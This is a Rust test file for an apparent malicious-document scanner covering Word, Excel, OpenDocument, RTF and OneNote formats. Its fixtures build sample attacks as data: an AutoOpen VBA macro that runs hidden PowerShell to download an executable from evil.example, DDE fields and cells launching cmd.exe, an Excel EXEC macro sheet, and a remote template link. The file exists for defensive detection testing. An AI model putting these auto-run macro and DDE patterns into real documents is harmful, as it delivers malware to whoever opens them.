use std::io::{Cursor, Write as _};

use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

use super::{
    super::{
        FileReport,
        picture::tests::{encoded, links, notes, qr, report},
        report::{LinkSource, NoteKind},
    },
    vba,
};

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");

fn zipped(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        // OpenDocument wants its type readable in the archive
        let method = if *name == "mimetype" {
            CompressionMethod::Stored
        } else {
            CompressionMethod::Deflated
        };
        writer
            .start_file(
                *name,
                SimpleFileOptions::default().compression_method(method),
            )
            .unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut container = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, content) in streams {
        let parent = std::path::Path::new(path).parent().unwrap();
        container.create_storage_all(parent).unwrap();
        let mut stream = container.create_stream(path).unwrap();
        stream.write_all(content).unwrap();
    }
    container.flush().unwrap();
    container.into_inner().into_inner()
}

/// The compressed form of [MS-OVBA] section 2.4.1 with literals only.
fn literal(source: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for part in source.chunks(3_000) {
        let body: Vec<u8> = part
            .chunks(8)
            .flat_map(|eight| [&[0u8][..], eight].concat())
            .collect();
        let header = 0xb000 | u16::try_from(body.len() - 1).unwrap();
        out.extend(header.to_le_bytes());
        out.extend(body);
    }
    out
}

const MACRO: &[u8] = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"powershell -w hidden iwr https://evil.example/a.exe\", 0\r\nEnd Sub\r\n";

/// A project with one module whose source begins at an offset that `dir` gives.
fn project(root: &str) -> Vec<(String, Vec<u8>)> {
    let mut records = Vec::new();
    records.extend([0x1a, 0, 7, 0, 0, 0]);
    records.extend(b"Module1");
    records.extend([0x31, 0, 4, 0, 0, 0, 5, 0, 0, 0]);
    let mut module = b"pcode".to_vec();
    module.extend(literal(MACRO));
    vec![
        (format!("{root}VBA/dir"), literal(&records)),
        (format!("{root}VBA/Module1"), module),
        (format!("{root}VBA/_VBA_PROJECT"), vec![0xcc, 0x61]),
    ]
}

fn with(streams: &[(String, Vec<u8>)], more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = streams
        .iter()
        .map(|(path, content)| (path.as_str(), content.as_slice()))
        .collect();
    all.extend_from_slice(more);
    compound(&all)
}

fn has(report: &FileReport, source: LinkSource, link: &str) -> bool {
    links(report).contains(&(source, link.to_owned()))
}

#[test]
fn a_document_shows_what_it_loads_and_where_it_leads() {
    let relations = br#"<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/><Relationship Id="2" Type="http://x/hyperlink" Target="https://click.example/" TargetMode="External"/><Relationship Id="3" Type="http://x/oleObject" Target="mhtml:http://ole.example/x!x-usc:http://ole.example/x" TargetMode="External"/><Relationship Id="4" Type="http://x/styles" Target="styles.xml"/></Relationships>"#;
    let body = br#"<w:document><w:p><w:r><w:t>Enable &lt;content&gt; &amp; sign in at https://text.example/</w:t></w:r></w:p><w:p><w:fldChar w:fldCharType="begin"/><w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "https://pic.example/a.png" \d </w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:document>"#;
    let code = encoded(&qr("https://qr.example/", 4), image::ImageFormat::Png);
    let report = report(
        zipped(&[
            TYPES,
            ("word/_rels/document.xml.rels", relations),
            ("word/document.xml", body),
            ("word/media/image1.png", &code),
        ]),
        "a.docx",
        "",
    );
    assert_eq!(
        notes(&report),
        [
            NoteKind::ExternalTemplate,
            NoteKind::ExternalReference,
            NoteKind::Dde,
            NoteKind::ExternalReference,
            NoteKind::QrCode
        ]
    );
    for (source, link) in [
        (LinkSource::Load, "https://evil.example/t.dotm?a=1&b=2"),
        (LinkSource::Click, "https://click.example/"),
        (LinkSource::Load, "https://pic.example/a.png"),
        (LinkSource::Text, "https://text.example/"),
        (LinkSource::QrCode, "https://qr.example/"),
    ] {
        assert!(has(&report, source, link), "{link} {:?}", links(&report));
    }
    let text = report.text.unwrap();
    assert!(text.exposed().contains("Enable <content> & sign in"));
}

#[test]
fn macros_are_read_in_new_and_old_documents() {
    let bin = with(&project("/"), &[]);
    let new = report(
        zipped(&[TYPES, ("word/vbaProject.bin", &bin)]),
        "a.docm",
        "",
    );
    let old = report(
        with(&project("/Macros/"), &[("/WordDocument", &[0; 600])]),
        "a.doc",
        "",
    );
    for report in [new, old] {
        let notes = notes(&report);
        for kind in [
            NoteKind::Macro,
            NoteKind::MacroAutoexec,
            NoteKind::MacroSuspicious,
        ] {
            assert!(notes.contains(&kind), "{kind:?} {notes:?}");
        }
        assert!(has(
            &report,
            LinkSource::Script,
            "https://evil.example/a.exe"
        ));
        assert!(
            report
                .notes
                .iter()
                .any(|n| n.detail.exposed() == "AutoOpen")
        );
    }
}

#[test]
fn macros_are_found_without_their_directory() {
    let mut bytes = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    bytes.resize(600, 7);
    bytes.extend(literal(MACRO));
    let report = report(bytes, "a.doc", "");
    let notes = notes(&report);
    assert!(notes.contains(&NoteKind::Corrupt) && notes.contains(&NoteKind::MacroAutoexec));
}

#[test]
fn copies_are_expanded_as_the_specification_shows() {
    // the normal example of [MS-OVBA] section 3.2.2
    let packed = [
        0x01, 0x2f, 0xb0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00,
        0x70, 0x61, 0x67, 0x68, 0x69, 0x6a, 0x01, 0x38, 0x08, 0x61, 0x6b, 0x6c, 0x00, 0x30, 0x6d,
        0x6e, 0x6f, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10,
        0x77, 0x78, 0x79, 0x7a, 0x00, 0x3c,
    ];
    assert_eq!(
        vba::decompress(&packed, 1_000).as_deref(),
        Some(&b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"[..])
    );
    assert_eq!(vba::decompress(&packed, 5).unwrap().len(), 5);
    assert_eq!(vba::decompress(b"\x01\xff\xff\xff\xff\xff", 100), None);
}

#[test]
fn macro_sheets_and_cells_that_start_programs_are_noted() {
    let sheet = br#"<xm:macrosheet><row><c><f>EXEC("powershell iwr https://x4.example/")</f></c></row></xm:macrosheet>"#;
    let book = br#"<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>"#;
    let cells = br#"<worksheet><c><f>HYPERLINK("https://cell.example/","x")</f></c><c><f>cmd|'/c calc'!A0</f></c></worksheet>"#;
    let new = report(
        zipped(&[
            TYPES,
            ("xl/macrosheets/sheet1.xml", sheet),
            ("xl/workbook.xml", book),
            ("xl/worksheets/sheet1.xml", cells),
        ]),
        "a.xlsm",
        "",
    );
    assert_eq!(
        notes(&new),
        [
            NoteKind::Macro,
            NoteKind::MacroSuspicious,
            NoteKind::MacroAutoexec,
            NoteKind::Dde
        ]
    );
    assert!(has(&new, LinkSource::Script, "https://x4.example/"));
    assert!(has(&new, LinkSource::Click, "https://cell.example/"));

    let mut records = vec![0x85, 0, 10, 0, 0, 0, 0, 0, 1, 1, 2, 0, b'M', b'1'];
    records.extend([
        0x18, 0, 16, 0, 0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1,
    ]);
    records.resize(600, 0);
    let old = report(compound(&[("/Workbook", &records)]), "a.xls", "");
    assert_eq!(notes(&old), [NoteKind::Macro, NoteKind::MacroAutoexec]);
}

fn native(name: &str, data: &[u8]) -> Vec<u8> {
    let mut body = vec![2, 0];
    body.extend(name.as_bytes());
    body.push(0);
    body.extend(b"C:\\x\0");
    body.extend([0, 0, 3, 0]);
    body.extend([5, 0, 0, 0]);
    body.extend(b"C:\\x\0");
    body.extend(u32::try_from(data.len()).unwrap().to_le_bytes());
    body.extend(data);
    let mut out = u32::try_from(body.len()).unwrap().to_le_bytes().to_vec();
    out.extend(body);
    out
}

#[test]
fn packed_files_become_members() {
    let object = compound(&[(
        "/\u{1}Ole10Native",
        &native("run.vbs", b"CreateObject(\"WScript.Shell\")"),
    )]);
    let report = report(
        zipped(&[TYPES, ("word/embeddings/oleObject1.bin", &object)]),
        "a.docx",
        "",
    );
    let file = report.all().last().unwrap();
    assert_eq!(file.name.as_ref().unwrap().exposed(), "run.vbs");
    assert_eq!(file.kind, super::super::FileKind::Script);
    assert!(notes(&report).contains(&NoteKind::EmbeddedObject));
}

#[test]
fn encrypted_documents_are_said_so() {
    let office = compound(&[
        ("/EncryptedPackage", &[1; 100]),
        ("/EncryptionInfo", &[1; 9]),
    ]);
    assert_eq!(notes(&report(office, "a.docx", "")), [NoteKind::Encrypted]);
}

#[test]
fn open_documents_are_read() {
    let content = br#"<office:document-content><office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts><text:p>Hello <text:a xlink:href="https://odt.example/">there</text:a><draw:image xlink:href="https://load.example/a.png"/></text:p></office:document-content>"#;
    let basic = br#"<script:module>Sub Main&#10;Shell(&quot;curl https://basic.example/&quot;)&#10;End Sub</script:module>"#;
    let report = report(
        zipped(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", content),
            ("Basic/Standard/Module1.xml", basic),
        ]),
        "a.odt",
        "",
    );
    let notes = notes(&report);
    for kind in [
        NoteKind::Macro,
        NoteKind::MacroAutoexec,
        NoteKind::MacroSuspicious,
        NoteKind::ExternalReference,
    ] {
        assert!(notes.contains(&kind), "{kind:?} {notes:?}");
    }
    assert!(has(&report, LinkSource::Click, "https://odt.example/"));
    assert!(has(&report, LinkSource::Load, "https://load.example/a.png"));
    assert!(has(&report, LinkSource::Script, "https://basic.example/"));
}

#[test]
fn rich_text_shows_objects_templates_fields_and_text() {
    let inner = native("a.hta", b"<html><script>x</script></html>");
    let mut ole = vec![1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0];
    ole.extend(b"Package\0");
    ole.extend([0; 8]);
    ole.extend(&inner);
    let hex: String = ole.iter().map(|b| format!("{b:02x}\n")).collect();
    let rtf = format!(
        "{{\\rtf1{{\\fonttbl Arial;}}{{\\*\\template https://tpl.example/t.dot}}Invoice \\'e9\\u8364? {{\\field{{\\*\\fldinst HYPERLINK \"https://rtf.example/\"}}{{\\fldrslt here}}}}{{\\object\\objemb\\objupdate{{\\*\\objclass Package}}{{\\*\\objdata {hex}}}}}}}"
    );
    let report = report(rtf.into_bytes(), "a.doc", "");
    assert!(has(&report, LinkSource::Load, "https://tpl.example/t.dot"));
    assert!(has(&report, LinkSource::Click, "https://rtf.example/"));
    let notes = notes(&report);
    assert!(
        notes.contains(&NoteKind::ExternalTemplate) && notes.contains(&NoteKind::EmbeddedObject)
    );
    assert_eq!(report.members[0].name.as_ref().unwrap().exposed(), "a.hta");
    let text = report.text.unwrap();
    assert!(
        text.exposed().contains("Invoice é€ here"),
        "{}",
        text.exposed()
    );
}

#[test]
fn files_on_a_page_of_notes_are_taken_out() {
    let mut section = vec![0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d];
    section.resize(100, 0);
    section.extend([
        0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e,
        0xac,
    ]);
    let data = b"<html><a href=https://one.example/>x</a></html>";
    section.extend((data.len() as u64).to_le_bytes());
    section.extend([0; 12]);
    section.extend(data);
    section.extend(
        "\0https://wide.example/\0"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    let report = report(section, "a.one", "");
    assert!(has(&report, LinkSource::Click, "https://one.example/"));
    assert!(has(&report, LinkSource::Text, "https://wide.example/"));
    assert_eq!(report.members.len(), 1);
}

#[test]
fn hostile_documents_cost_little() {
    for bytes in [
        format!("{{\\rtf1 {}", "{".repeat(1_000_000)).into_bytes(),
        format!("{{\\rtf1 {}", "{\\objdata 41}".repeat(50_000)).into_bytes(),
        format!("{{\\rtf1 {}", "\\'4".repeat(300_000)).into_bytes(),
        zipped(&[
            TYPES,
            ("word/document.xml", "<w:t>x".repeat(500_000).as_bytes()),
        ]),
        zipped(&[
            TYPES,
            (
                "word/_rels/a.rels",
                "<Relationship a='".repeat(100_000).as_bytes(),
            ),
        ]),
    ] {
        let started = std::time::Instant::now();
        report(bytes, "a.doc", "");
        assert!(started.elapsed().as_secs() < 20);
    }
}

proptest::proptest! {
    #[test]
    fn any_damage_is_survived(at in 0usize..20_000, byte: u8, cut in 0usize..20_000) {
        let mut bytes = with(&project("/Macros/"), &[("/Workbook", &[0x85, 0, 4, 0, 1, 1, 1, 1])]);
        let length = bytes.len();
        bytes[at % length] = byte;
        bytes.truncate(cut.max(8));
        report(bytes, "a.doc", "");
    }

    #[test]
    fn any_rich_text_ends(text in "\\{\\\\rtf1[{}\\\\a-z0-9'* -]{0,200}") {
        report(text.into_bytes(), "a.rtf", "");
    }
}
